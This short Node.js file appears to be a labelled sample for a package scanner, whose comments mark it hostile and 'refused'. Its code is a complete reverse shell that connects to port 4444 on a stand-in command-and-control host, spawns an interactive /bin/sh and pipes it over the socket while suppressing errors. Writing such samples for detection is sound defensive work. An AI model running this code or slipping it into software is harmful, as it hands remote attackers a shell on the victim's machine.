// Hostile: ties a shell to a connection.
// Families: child-process, network. As a package: refused.
const net = require('node:net');
const { spawn } = require('node:child_process');

const client = net.connect(4444, 'c2.example.invalid', () => {
  const shell = spawn('/bin/sh', ['-i']);
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
  shell.stderr.pipe(client);
});
client.on('error', () => {});
